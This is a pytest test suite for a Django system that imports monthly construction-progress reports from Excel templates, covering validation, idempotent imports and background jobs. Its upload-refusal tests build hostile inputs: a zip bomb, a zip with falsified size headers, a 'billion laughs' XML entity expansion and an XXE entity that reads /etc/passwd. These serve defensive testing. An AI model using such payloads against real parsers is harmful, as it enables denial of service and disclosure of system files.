"""Monthly forms by Excel (SPEC §8): the prefilled template (protected keys, validation lists),
the round trip template → openpyxl → import, all-or-nothing with errors by Excel row and
Chinese column header, idempotent re-uploads, every hostile or broken file refused before
anything is written, large imports as a background job, and the completion handbook."""

import datetime
import io
import json
import time
import zipfile
from decimal import Decimal

import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from config.celery_app import app as celery_app
from core import jobs
from core.exceptions import DomainError
from issues.models import Category as IssueCategory
from progress import handbook, imports, services, xlsx
from progress import upload as upload_checks
from progress.models import ImportStatus, MonthlyReport, ProgressEvent, ProgressImport
from progress.services import INPUT_FIELDS
from progress.tasks import run_import
from progress.upload import UploadRefused
from projects.models import STAGE_DATE_FIELDS, Admission, Project, Stage

from . import factories
from .conftest import clock_at

TODAY = datetime.date(2026, 11, 23)
PERIOD = "2026-11"
LETTER = {column.key: chr(ord("A") + i) for i, column in enumerate(xlsx.COLUMNS)}


@pytest.fixture(autouse=True)
def today():
    with clock_at(TODAY):
        yield TODAY


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def active(people, region="320281", stage=Stage.STARTED, **extra):
    """An admitted project in ``stage``, signed in January, filed in February, started in March."""
    reached = {
        Stage.SIGNED: datetime.date(2026, 1, 10),
        Stage.FILED: datetime.date(2026, 2, 10),
        Stage.STARTED: datetime.date(2026, 3, 10),
    }
    dates = {
        STAGE_DATE_FIELDS[s]: day
        for s, day in reached.items()
        if Stage.order(s) <= Stage.order(stage)
    }
    return factories.project(
        region,
        by=people["province_office"],
        stage=stage,
        admission=Admission.ADMITTED,
        **{**dates, **extra},
    )


@pytest.fixture
def county(people):
    """Three active 江阴 projects (one only filed, not started), one in planning, one in 宜兴."""
    return {
        "a": active(
            people, total_investment=Decimal("5000"), planned_investment_year=Decimal(2000)
        ),
        "b": active(people, total_investment=Decimal("800")),
        "c": active(people, stage=Stage.FILED),
        "planning": factories.project("320281", by=people["province_office"]),
        "yixing": active(people, region="320282"),
    }


def sheet_of(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    return workbook, workbook[xlsx.SHEET]


def rows_by_project(sheet) -> dict[int, int]:
    """Excel row number of each project id in column A."""
    return {
        int(sheet.cell(row=r, column=1).value): r
        for r in range(xlsx.FIRST_ROW, sheet.max_row + 1)
        if sheet.cell(row=r, column=1).value is not None
    }


def fill(data: bytes, values: dict[int, dict], edit=None) -> bytes:
    """The template with ``values[project_id][key]`` typed in, then ``edit(workbook)``."""
    workbook, sheet = sheet_of(data)
    where = rows_by_project(sheet)
    for project_id, row in values.items():
        for key, value in row.items():
            sheet[f"{LETTER[key]}{where[project_id]}"] = value
    if edit is not None:
        edit(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def upload(by, data: bytes, name="月度进展.xlsx", period=None):
    return imports.start_import(by=by, uploaded=SimpleUploadedFile(name, data), period=period)


def template(people, who="county_filer"):
    return xlsx.build_template(people[who], PERIOD)


GOOD = {
    "investment_this_month": 120,
    "physical_progress": "主体结构封顶",
    "percent_complete": 65.5,
}


# --- the template ------------------------------------------------------------------------------


def test_template_lists_the_active_projects_in_scope_with_last_month(people, county):
    services.report_save(
        project=county["a"],
        period="2026-10",
        by=people["county_filer"],
        investment_this_month="300",
        physical_progress="基础施工",
    )
    services.report_save(
        project=county["a"],
        period="2026-09",
        by=people["county_filer"],
        investment_this_month="200",
    )
    workbook, sheet = sheet_of(template(people))
    where = rows_by_project(sheet)
    assert set(where) == {county["a"].pk, county["b"].pk, county["c"].pk}
    assert sorted(where.values()) == [4, 5, 6]
    assert [sheet.cell(row=3, column=i + 1).value for i in range(14)] == list(xlsx.HEADERS)
    assert sheet["B2"].value == PERIOD and sheet["D2"].value == "2026-11-20"
    row = where[county["a"].pk]
    assert sheet[f"C{row}"].value == county["a"].name
    assert sheet[f"D{row}"].value == "江阴市"
    assert sheet[f"E{row}"].value == 5000
    assert sheet[f"F{row}"].value == 500  # September + October
    assert sheet[f"G{row}"].value == "基础施工"
    assert sheet[f"H{row}"].value is None
    assert workbook[xlsx.META_SHEET].sheet_state == "hidden"


def test_template_protects_the_key_columns_and_offers_lists(people, county):
    workbook, sheet = sheet_of(template(people))
    assert sheet.protection.sheet is True
    for row in (4, 6):
        for column in xlsx.COLUMNS:
            cell = sheet[f"{LETTER[column.key]}{row}"]
            assert cell.protection.locked is column.locked, (column.key, row)
    assert [c.key for c in xlsx.COLUMNS if c.locked] == [
        "project_id",
        "code",
        "name",
        "region",
        "total",
        "last_ytd",
        "last_progress",
    ]
    lists = {
        str(v.sqref): v.formula1 for v in sheet.data_validations.dataValidation if v.type == "list"
    }
    assert lists == {
        "K4:K6": '"开工,竣工,投产,达效"',
        "N4:N6": '"' + ",".join(str(label) for _v, label in IssueCategory.choices) + '"',
    }
    kinds = {str(v.sqref): v.type for v in sheet.data_validations.dataValidation}
    assert kinds["H4:H6"] == "decimal" and kinds["J4:J6"] == "decimal"
    assert kinds["L4:L6"] == "date"


# --- the round trip -------------------------------------------------------------------------


def test_round_trip_template_fill_import(people, county):
    filer = people["county_filer"]
    services.report_save(
        project=county["a"], period="2026-10", by=filer, investment_this_month="300"
    )
    data = fill(
        template(people),
        {
            county["a"].pk: {
                **GOOD,
                "problems": "施工用电迟迟未接入",
                "problem_category": "水电气配套",
            },
            county["c"].pk: {
                "investment_this_month": 40,
                "physical_progress": "场地平整",
                "new_stage": "开工",
                "stage_date": datetime.date(2026, 11, 12),
            },
        },
    )
    job = upload(filer, data)
    assert job.status == ImportStatus.DONE, (job.message, job.errors)
    assert (job.created, job.updated, job.unchanged, job.total_rows) == (2, 0, 0, 3)
    assert job.processed_rows == job.total_rows and job.percent == 100
    assert job.message == "导入完成：新增2条，更新0条，未变化0条，空行跳过1条。"
    assert job.period == PERIOD and job.region_id == "320281" and job.created_by == filer

    a = MonthlyReport.objects.get(project=county["a"], period=PERIOD)
    assert (a.investment_this_month, a.investment_ytd, a.percent_complete) == (
        Decimal(120),
        Decimal(420),
        Decimal("65.50"),
    )
    assert (a.physical_progress, a.problems, a.problem_category) == (
        "主体结构封顶",
        "施工用电迟迟未接入",
        "utilities",
    )
    assert a.status == "draft"
    c = MonthlyReport.objects.get(project=county["c"], period=PERIOD)
    assert (c.new_stage, c.stage_date) == ("started", datetime.date(2026, 11, 12))
    assert not MonthlyReport.objects.filter(project=county["b"]).exists()  # left blank
    assert set(
        ProgressEvent.objects.filter(report__period=PERIOD).values_list("action", flat=True)
    ) == {"import"}

    # the template downloaded again shows what was imported; uploading it changes nothing
    again = upload(filer, template(people))
    assert again.status == ImportStatus.DONE, again.errors
    assert (again.created, again.updated, again.unchanged) == (0, 0, 2)


def test_the_same_file_twice_creates_nothing_new(people, county):
    data = fill(template(people), {county["a"].pk: GOOD, county["b"].pk: GOOD})
    first = upload(people["county_filer"], data)
    assert (first.created, first.updated) == (2, 0)
    events = ProgressEvent.objects.count()
    second = upload(people["county_filer"], data)
    assert second.status == ImportStatus.DONE
    assert (second.created, second.updated, second.unchanged) == (0, 0, 2)
    assert MonthlyReport.objects.count() == 2 and ProgressEvent.objects.count() == events


def test_reimporting_changed_figures_updates_drafts_and_ytd(people, county):
    filer = people["county_filer"]
    services.report_save(
        project=county["a"], period="2026-10", by=filer, investment_this_month="300"
    )
    upload(filer, fill(template(people), {county["a"].pk: GOOD}))
    job = upload(filer, fill(template(people), {county["a"].pk: {"investment_this_month": 150}}))
    assert (job.created, job.updated, job.unchanged) == (0, 1, 0)
    report = MonthlyReport.objects.get(project=county["a"], period=PERIOD)
    assert (report.investment_this_month, report.investment_ytd) == (Decimal(150), Decimal(450))


def test_a_submitted_form_with_other_figures_is_refused_by_row(people, county):
    filer = people["county_filer"]
    report, _ = services.report_save(
        project=county["a"], period=PERIOD, by=filer, **{**GOOD, "percent_complete": "65.5"}
    )
    services.report_submit(report=report, by=filer)
    same = upload(filer, fill(template(people), {county["a"].pk: GOOD}))
    assert (same.status, same.unchanged) == (ImportStatus.DONE, 1)
    changed = fill(template(people), {county["a"].pk: {"investment_this_month": 99}})
    job = upload(filer, changed)
    assert job.status == ImportStatus.FAILED
    row = rows_by_project(sheet_of(changed)[1])[county["a"].pk]
    assert job.errors == [
        {
            "row": row,
            "column": "整行",
            "message": f"{county['a'].name} 2026-11的进展已报送，不能修改。",
        }
    ]


# --- all or nothing, errors by row and column ---------------------------------------------------


def test_one_bad_row_writes_nothing_and_names_row_and_column(people, county):
    data = fill(
        template(people),
        {
            county["a"].pk: GOOD,
            county["b"].pk: {**GOOD, "investment_this_month": -5},
            county["c"].pk: {**GOOD, "new_stage": "开工", "stage_date": "十一月"},
        },
    )
    where = rows_by_project(sheet_of(data)[1])
    job = upload(people["county_filer"], data)
    assert job.status == ImportStatus.FAILED
    assert job.message == "共2处错误，未导入任何数据。请按行列提示修改后重新上传。"
    assert sorted(job.errors, key=lambda e: e["row"]) == sorted(
        [
            {
                "row": where[county["b"].pk],
                "column": "本月完成投资（万元）",
                "message": "本月完成投资不能为负数。",
            },
            {
                "row": where[county["c"].pk],
                "column": "阶段日期",
                "message": "阶段日期“十一月”无法识别，请写成 2026-11-05。",
            },
        ],
        key=lambda e: e["row"],
    )
    assert not MonthlyReport.objects.exists() and not ProgressEvent.objects.exists()


@pytest.mark.parametrize(
    ("row", "column", "message"),
    [
        ({"investment_this_month": "一百二十"}, "本月完成投资（万元）", "本月完成投资应为数字。"),
        ({"investment_this_month": 1e30}, "本月完成投资（万元）", "本月完成投资数值过大。"),
        ({"investment_this_month": 6000}, "本月完成投资（万元）", "不能超过项目总投资"),
        ({"percent_complete": 120}, "工程完成百分比（%）", "工程完成百分比应在0到100之间。"),
        ({"new_stage": "封顶"}, "本月进入阶段", "“封顶”不是可选的阶段（开工、竣工、投产、达效）。"),
        ({"new_stage": "竣工"}, "阶段日期", "请填写进入“竣工”阶段的日期。"),
        ({"stage_date": datetime.date(2026, 11, 3)}, "本月进入阶段", "请选择本月进入的阶段。"),
        (
            {"new_stage": "竣工", "stage_date": datetime.date(2026, 10, 3)},
            "阶段日期",
            "阶段日期应在本月（2026-11-01至2026-11-30）内。",
        ),
        ({"problem_category": "天气"}, "问题类别", "“天气”不是可选的问题类别。"),
        ({"project_id": "abc"}, "平台编号", "平台编号缺失或有误，请勿修改灰色列。"),
        ({"project_id": "9" * 20}, "平台编号", "平台编号缺失或有误，请勿修改灰色列。"),
        ({"project_id": "²"}, "平台编号", "平台编号缺失或有误，请勿修改灰色列。"),
    ],
)
def test_row_errors_name_the_column_in_chinese(people, county, row, column, message):
    blank = template(people)
    where = rows_by_project(sheet_of(blank)[1])
    job = upload(people["county_filer"], fill(blank, {county["a"].pk: {**GOOD, **row}}))
    assert job.status == ImportStatus.FAILED
    assert len(job.errors) == 1
    error = job.errors[0]
    assert (error["row"], error["column"]) == (where[county["a"].pk], column)
    assert message in error["message"]
    assert not MonthlyReport.objects.exists()


def test_blank_lines_keep_the_excel_row_numbers(people, county):
    def insert_blank(workbook):
        workbook[xlsx.SHEET].insert_rows(5, amount=2)

    data = fill(template(people), {county["c"].pk: {"investment_this_month": -1}}, insert_blank)
    where = rows_by_project(sheet_of(data)[1])
    job = upload(people["county_filer"], data)
    assert job.status == ImportStatus.FAILED
    assert [e["row"] for e in job.errors] == [where[county["c"].pk]]
    assert where[county["c"].pk] >= 7


def test_duplicate_project_rows_are_refused(people, county):
    def duplicate(workbook):
        sheet = workbook[xlsx.SHEET]
        for index in range(1, len(xlsx.COLUMNS) + 1):
            sheet.cell(row=7, column=index, value=sheet.cell(row=4, column=index).value)

    job = upload(people["county_filer"], fill(template(people), {}, duplicate))
    assert job.status == ImportStatus.FAILED
    assert job.errors == [
        {"row": 7, "column": "平台编号", "message": "与第4行是同一个项目，请合并为一行。"}
    ]
    assert not MonthlyReport.objects.exists()


def test_a_project_outside_the_scope_is_refused(people, county):
    def smuggle(workbook):
        sheet = workbook[xlsx.SHEET]
        sheet["A7"], sheet["H7"], sheet["I7"] = county["yixing"].pk, 10, "施工"

    job = upload(people["county_filer"], fill(template(people), {county["a"].pk: GOOD}, smuggle))
    assert job.status == ImportStatus.FAILED
    assert job.errors == [
        {
            "row": 7,
            "column": "平台编号",
            "message": f"平台编号{county['yixing'].pk}对应的项目不存在或不在您的管辖范围内。",
        }
    ]
    assert not MonthlyReport.objects.exists()


def test_a_project_not_in_the_monthly_round_is_refused(people, county):
    def smuggle(workbook):
        sheet = workbook[xlsx.SHEET]
        sheet["A7"], sheet["H7"], sheet["I7"] = county["planning"].pk, 10, "施工"

    job = upload(people["county_filer"], fill(template(people), {county["a"].pk: GOOD}, smuggle))
    assert job.status == ImportStatus.FAILED
    assert [(e["row"], e["column"]) for e in job.errors] == [(7, "平台编号")]
    assert "不在月度调度范围内" in job.errors[0]["message"]
    assert not MonthlyReport.objects.exists()


def test_an_unexpected_failure_fails_the_job_instead_of_leaving_it_running(
    people, county, monkeypatch
):
    def broken(*args, **kwargs):
        raise RuntimeError("boom")

    monkeypatch.setattr(services, "sheet_save", broken)
    job = upload(people["county_filer"], fill(template(people), {county["a"].pk: GOOD}))
    assert job.status == ImportStatus.FAILED
    assert job.finished_at is not None
    assert job.message == "导入时发生系统错误，未导入任何数据，请稍后重试或联系管理员。"
    assert not MonthlyReport.objects.exists()


# --- whole files refused ------------------------------------------------------------------------


@pytest.fixture
def no_openpyxl(monkeypatch):
    """The checks that run before any workbook parser: openpyxl must not be reached."""

    def forbidden(*args, **kwargs):
        raise AssertionError("openpyxl was called on a file the checks should have refused")

    monkeypatch.setattr(xlsx, "load_workbook", forbidden)


def refused(by, data: bytes, name="月度进展.xlsx", period=None) -> str:
    start = time.perf_counter()
    with pytest.raises(UploadRefused) as error:
        upload(by, data, name, period)
    assert time.perf_counter() - start < 5
    assert (error.value.code, error.value.field) == ("file_refused", "file")
    assert not ProgressImport.objects.exists()
    assert not MonthlyReport.objects.exists()
    return error.value.messages[0]


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
)


def rezip(data: bytes, replace: dict[str, bytes]) -> bytes:
    """The zip ``data`` with some entries replaced."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            target.writestr(entry.filename, replace.get(entry.filename, source.read(entry)))
    return out.getvalue()


def test_a_file_over_the_size_cap(people, county, no_openpyxl, settings):
    data = template(people)
    settings.PROGRESS_IMPORT_MAX_BYTES = len(data) - 1
    assert "超过上限" in refused(people["county_filer"], data)
    with pytest.raises(UploadRefused) as error:
        upload_checks.check_upload(data)  # the same check on the bytes, whatever the upload claims
    assert "超过上限" in error.value.messages[0]


def test_a_zip_bomb_is_refused_before_unpacking(people, county, no_openpyxl):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bomb:
        bomb.writestr("[Content_Types].xml", CONTENT_TYPES)
        bomb.writestr("xl/workbook.xml", b"<workbook/>")
        with bomb.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as entry:
            zeros = b"\0" * (1 << 20)
            for _megabyte in range(256):
                entry.write(zeros)
    data = buffer.getvalue()
    assert len(data) < 2 * 1024 * 1024  # small on the wire …
    message = refused(people["county_filer"], data)
    assert "解压后" in message and "256.0MB" in message  # … 256 MB unpacked


def test_a_zip_directory_that_lies_about_sizes_gets_no_further(people, county, no_openpyxl):
    # 64 MB of zeros whose zip directory (and local header) claim 1,000 bytes: the sizes pass,
    # the bounded read stops at the claimed size and the CRC no longer matches.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as entry:
            zeros = b"\0" * (1 << 20)
            for _megabyte in range(64):
                entry.write(zeros)
    data = bytearray(buffer.getvalue())
    real = (64 << 20).to_bytes(4, "little")
    claimed = (1000).to_bytes(4, "little")
    patched = 0
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            if data[start + offset : start + offset + 4] == real:
                data[start + offset : start + offset + 4] = claimed
                patched += 1
            start += 4
    assert patched == 2
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        assert sum(entry.file_size for entry in archive.infolist()) < 2000
    message = refused(people["county_filer"], bytes(data))
    assert message == "文件已损坏，无法读取，请重新保存后上传。"


def test_an_xml_part_with_entities_is_refused(people, county, no_openpyxl):
    laughs = (
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
        + b"".join(
            f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n'.encode()
            for n in range(1, 10)
        )
        + b']>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"&lol9;</workbook>"
    )
    data = rezip(template(people), {"xl/workbook.xml": laughs})
    assert refused(people["county_filer"], data) == (
        "文件含有不安全的 XML 内容（DTD 或实体声明），已拒绝。"
    )


def test_an_external_entity_is_refused(people, county, no_openpyxl):
    xxe = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<sst>&xxe;</sst>"
    )
    data = rezip(template(people), {"xl/sharedStrings.xml": xxe, "xl/workbook.xml": xxe})
    assert "不安全的 XML" in refused(people["county_filer"], data)


NOT_A_WORKBOOK = (
    "文件不是有效的 Excel（.xlsx）文件（可能是改了扩展名的其他文件），请使用平台下载的模板。"
)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("项目代码,本月完成投资\n2024-320281-26-03-512345,120\n".encode("gbk"), NOT_A_WORKBOOK),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 200, NOT_A_WORKBOOK),
        (
            upload_checks.OLE2_MAGIC + b"\0" * 512,
            "这是旧版 Excel（.xls）或其他 Office 文件，请使用平台模板并另存为 .xlsx 后上传。",
        ),
        (b"", "文件是空的，请选择填好的模板。"),
        (b"PK\x03\x04" + b"\0" * 100, NOT_A_WORKBOOK),  # a truncated zip
    ],
    ids=["csv", "png", "xls", "empty", "truncated-zip"],
)
def test_other_files_renamed_to_xlsx(people, county, no_openpyxl, content, message):
    assert refused(people["county_filer"], content) == message


def test_a_word_document_renamed_to_xlsx(people, county, no_openpyxl):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as docx:
        docx.writestr("[Content_Types].xml", CONTENT_TYPES)
        docx.writestr("word/document.xml", b"<document/>")
    assert refused(people["county_filer"], buffer.getvalue(), "报告.xlsx") == (
        "文件不是 Excel 工作簿（可能是改了扩展名的 Word 或其他文件），请使用平台下载的模板。"
    )


def test_an_xml_part_that_is_not_xml(people, county, no_openpyxl):
    data = rezip(template(people), {"xl/workbook.xml": b"<workbook><unclosed></workbook>"})
    assert refused(people["county_filer"], data) == "文件中的 XML 内容已损坏，请重新保存后上传。"


def test_another_workbook_is_not_the_template(people, county):
    workbook = Workbook()
    workbook.active.title = "Sheet1"
    workbook.active["A1"] = "hello"
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert refused(people["county_filer"], buffer.getvalue()) == (
        "找不到工作表“月度进展”，请使用平台下载的模板。"
    )


def test_a_renamed_sheet(people, county):
    def rename(workbook):
        workbook[xlsx.SHEET].title = "Sheet1"

    message = refused(people["county_filer"], fill(template(people), {}, rename))
    assert message == "找不到工作表“月度进展”，请使用平台下载的模板。"


def test_a_missing_column(people, county):
    def drop(workbook):
        workbook[xlsx.SHEET].delete_cols(8)  # 本月完成投资

    data = fill(template(people), {county["a"].pk: GOOD}, drop)
    message = refused(people["county_filer"], data)
    assert message.startswith("第3行第H列应为“本月完成投资（万元）”，实际为“形象进度”")
    assert "不要增删或调换列" in message


def test_the_last_column_missing(people, county):
    def drop(workbook):
        workbook[xlsx.SHEET].delete_cols(14)

    message = refused(people["county_filer"], fill(template(people), {}, drop))
    assert message.startswith("第3行缺少“问题类别”列（第N列）。")


def test_reordered_columns(people, county):
    def swap(workbook):
        sheet = workbook[xlsx.SHEET]
        for row in range(3, sheet.max_row + 1):
            sheet[f"H{row}"].value, sheet[f"I{row}"].value = (
                sheet[f"I{row}"].value,
                sheet[f"H{row}"].value,
            )

    data = fill(template(people), {county["a"].pk: GOOD}, swap)
    assert refused(people["county_filer"], data).startswith(
        "第3行第H列应为“本月完成投资（万元）”，实际为“形象进度”（列的顺序被调换）。"
    )


def test_an_extra_column(people, county):
    def extra(workbook):
        workbook[xlsx.SHEET]["O3"] = "备注"

    message = refused(people["county_filer"], fill(template(people), {}, extra))
    assert message == "第3行多出“备注”列。请使用平台下载的模板，不要增删或调换列。"


@override_settings(PROGRESS_IMPORT_MAX_ROWS=2)
def test_too_many_rows(people, county):
    assert refused(people["county_filer"], template(people)) == "数据超过2行，请分批导入。"


def test_a_period_other_than_the_chosen_one(people, county):
    message = refused(people["county_filer"], template(people), period="2026-10")
    assert message == "文件中的填报月份（2026-11）与所选月份（2026-10）不一致。"


@pytest.mark.parametrize(
    ("value", "why"),
    [("2026-12", "不能填报未来月份"), ("2026年11月", "月份格式应为 YYYY-MM"), (None, "月份格式")],
)
def test_a_bad_period_in_the_file(people, county, value, why):
    def period(workbook):
        workbook[xlsx.SHEET]["B2"] = value

    message = refused(people["county_filer"], fill(template(people), {}, period))
    assert message.startswith("模板第2行的填报月份") and why in message


def test_a_template_with_no_rows(people):
    assert refused(people["county_filer"], template(people)) == "文件中没有数据行。"


def test_only_filers_import(people, county):
    with pytest.raises(DomainError) as refusal:
        upload(people["leader"], template(people, "province_office"))
    assert refusal.value.code == "not_permitted"
    assert not ProgressImport.objects.exists()


# --- large imports in the background ------------------------------------------------------------


@pytest.fixture
def eager_celery():
    celery_app.conf.task_always_eager = True
    yield
    celery_app.conf.task_always_eager = False


@override_settings(PROGRESS_IMPORT_SYNC_ROWS=2)
def test_a_large_import_is_queued_and_finished_by_the_job(
    people, county, eager_celery, django_capture_on_commit_callbacks
):
    data = fill(
        template(people),
        {county["a"].pk: GOOD, county["b"].pk: GOOD, county["c"].pk: GOOD},
    )
    with django_capture_on_commit_callbacks(execute=False) as queued:
        job = upload(people["county_filer"], data)
    assert job.status == ImportStatus.QUEUED and job.total_rows == 3
    assert (job.processed_rows, job.percent) == (0, 0)
    assert not MonthlyReport.objects.exists()
    assert len(queued) == 1
    queued[0]()  # the commit: the task runs (eagerly here, in a worker in production)
    job.refresh_from_db()
    assert job.status == ImportStatus.DONE, job.errors
    assert job.processed_rows == job.total_rows == 3 and job.percent == 100
    assert (job.created, job.updated, job.unchanged) == (3, 0, 0)
    assert job.finished_at is not None
    finished_at = job.finished_at
    # running the job again (a redelivered message) changes nothing
    events = ProgressEvent.objects.count()
    assert run_import(job.pk) == ImportStatus.DONE
    job.refresh_from_db()
    assert (job.created, job.finished_at) == (3, finished_at)
    assert MonthlyReport.objects.count() == 3 and ProgressEvent.objects.count() == events


@override_settings(PROGRESS_IMPORT_SYNC_ROWS=1)
def test_a_job_cut_off_half_way_is_failed_and_the_file_can_be_uploaded_again(
    people, county, django_capture_on_commit_callbacks
):
    data = fill(template(people), {county["a"].pk: GOOD, county["b"].pk: GOOD})
    with django_capture_on_commit_callbacks(execute=False):
        job = upload(people["county_filer"], data)
    # its worker died half way: the heartbeat stopped
    stopped = timezone.now() - datetime.timedelta(seconds=settings.JOB_HEARTBEAT_TIMEOUT + 1)
    ProgressImport.objects.filter(pk=job.pk).update(
        status=ImportStatus.RUNNING, processed_rows=1, heartbeat_at=stopped
    )
    # a message delivered again leaves it (it cannot tell a dead run from a live one) …
    assert imports.run_import(job.pk) == ImportStatus.RUNNING
    # … the reaper marks it failed, nothing written
    assert jobs.reap() == {"failed": 1}
    job.refresh_from_db()
    assert (job.status, job.message) == (ImportStatus.FAILED, str(imports.INTERRUPTED))
    assert not MonthlyReport.objects.exists()
    with django_capture_on_commit_callbacks(execute=False):
        again = upload(people["county_filer"], data)
    assert imports.run_import(again.pk) == ImportStatus.DONE
    again.refresh_from_db()
    assert (again.status, again.created, again.processed_rows) == (ImportStatus.DONE, 2, 3)
    assert MonthlyReport.objects.count() == 2


@override_settings(PROGRESS_IMPORT_SYNC_ROWS=1)
def test_a_background_import_does_not_parse_the_workbook_again(
    people, county, django_capture_on_commit_callbacks, request
):
    data = fill(template(people), {county["a"].pk: GOOD, county["b"].pk: GOOD})
    job = _queued(people["county_filer"], data, django_capture_on_commit_callbacks)

    request.getfixturevalue("no_second_parse")
    assert imports.run_import(job.pk) == ImportStatus.DONE
    job.refresh_from_db()
    assert (job.created, job.processed_rows) == (2, 3)


def _row(number, project_id, errors=None, **values):
    return xlsx.Row(number, project_id, errors, *(values.get(name) for name in INPUT_FIELDS))


def test_the_rows_handed_to_the_job_keep_their_values():
    rows = [
        _row(4, 7, stage_date=datetime.date(2026, 11, 5), percent_complete=30.5),
        _row(
            5,
            None,
            {"project_id": ["平台编号缺失或有误，请勿修改灰色列。"]},
            investment_this_month=datetime.datetime(2026, 1, 2, 3, 4),
        ),
        _row(6, 8, investment_this_month=datetime.time(9, 30), problems="=1+1\n第二行"),
    ]
    with xlsx.Parsed("2026-11", "320281") as parsed:
        for row in rows:
            parsed.add(row)
        again = xlsx.Parsed.load(parsed.stored())
    with again:
        assert (again.period, again.region_code, len(again)) == ("2026-11", "320281", 3)
        read = list(again.rows(range(3)))
    assert read[0] == rows[0] and read[1].errors == rows[1].errors
    # a value the template does not expect travels as its text: refused all the same
    assert read[1].investment_this_month == "2026-01-02T03:04:00"
    assert read[2].values == {
        **dict.fromkeys(INPUT_FIELDS),
        "investment_this_month": "09:30:00",
        "problems": "=1+1\n第二行",
    }


def test_rows_stored_by_an_earlier_version_are_read_too():
    """A job queued before rows were stored as tuples still runs after an upgrade."""
    stored = {
        "period": "2026-11",
        "region_code": "320281",
        "rows": [
            [4, 7, {"stage_date": {"__date__": "2026-11-05"}, "problems": "漏水"}, {}],
            [5, None, {"problems": ""}, {"project_id": ["平台编号缺失或有误，请勿修改灰色列。"]}],
        ],
    }
    with xlsx.Parsed.load(io.BytesIO(json.dumps(stored).encode())) as parsed:
        rows = list(parsed.rows(range(len(parsed))))
    assert rows[0] == _row(4, 7, stage_date=datetime.date(2026, 11, 5), problems="漏水")
    assert rows[1].errors == {"project_id": ["平台编号缺失或有误，请勿修改灰色列。"]}


def _queued(by, data: bytes, capture) -> ProgressImport:
    """The job of a large upload, queued (its message not sent)."""
    with capture(execute=False):
        return upload(by, data)


@pytest.fixture
def no_second_parse(monkeypatch):
    """The worker takes the rows the upload read: the workbook must not be parsed again."""

    def parsed_again(_data):
        raise AssertionError("the worker parsed the workbook again")

    monkeypatch.setattr(xlsx, "read_workbook", parsed_again)


@pytest.fixture
def small_steps(monkeypatch):
    """Rows checked one at a time and written two at a time: a few rows go through the
    stretches and batches of an import of thousands."""
    monkeypatch.setattr(imports, "PROGRESS_EVERY", 1)
    monkeypatch.setattr(imports, "STRETCH_ROWS", 1)
    monkeypatch.setattr(services.sheets, "SHEET_BATCH", 2)


def _reversed_rows(workbook) -> None:
    """The data rows of the sheet in the opposite order (the projects' ids falling)."""
    sheet = workbook[xlsx.SHEET]
    last = sheet.max_row
    lines = [
        [sheet.cell(row=r, column=c).value for c in range(1, len(xlsx.COLUMNS) + 1)]
        for r in range(xlsx.FIRST_ROW, last + 1)
    ]
    for r, line in zip(range(xlsx.FIRST_ROW, last + 1), reversed(lines), strict=True):
        for c, value in enumerate(line, start=1):
            sheet.cell(row=r, column=c).value = value  # value=None would leave the cell as it is


@override_settings(PROGRESS_IMPORT_SYNC_ROWS=1)
def test_a_background_import_writes_every_row_as_read(
    people, county, small_steps, django_capture_on_commit_callbacks, request
):
    more = [active(people, total_investment=Decimal(9000)) for _n in range(5)]
    values = {
        project.pk: {"investment_this_month": 10 * n, "physical_progress": f"第{n}段施工"}
        for n, project in enumerate([county["a"], county["b"], *more], start=1)
    }
    values[county["c"].pk] = {
        "investment_this_month": 7.5,
        "physical_progress": "场地平整",
        "new_stage": "开工",
        "stage_date": datetime.date(2026, 11, 12),
        "problems": "征地\n未完成",
        "problem_category": "征地拆迁",
    }
    data = fill(template(people), values, _reversed_rows)
    job = _queued(people["county_filer"], data, django_capture_on_commit_callbacks)
    assert (job.status, job.total_rows) == (ImportStatus.QUEUED, 8)

    request.getfixturevalue("no_second_parse")
    imports.run_import(job.pk)
    job.refresh_from_db()
    assert job.status == ImportStatus.DONE, (job.message, job.errors)
    assert (job.created, job.processed_rows) == (8, 8)
    written = {
        report.project_id: report
        for report in MonthlyReport.objects.filter(period=PERIOD, status="draft")
    }
    assert set(written) == set(values)
    for project_id, row in values.items():
        if project_id == county["c"].pk:
            continue
        assert (
            written[project_id].investment_this_month,
            written[project_id].physical_progress,
        ) == (Decimal(row["investment_this_month"]), row["physical_progress"])
    c = written[county["c"].pk]
    assert (c.investment_this_month, c.new_stage, c.stage_date) == (
        Decimal("7.5"),
        "started",
        datetime.date(2026, 11, 12),
    )
    assert (c.problems, str(IssueCategory(c.problem_category).label)) == (
        "征地\n未完成",
        "征地拆迁",
    )
    assert ProgressEvent.objects.filter(report__period=PERIOD).count() == 8


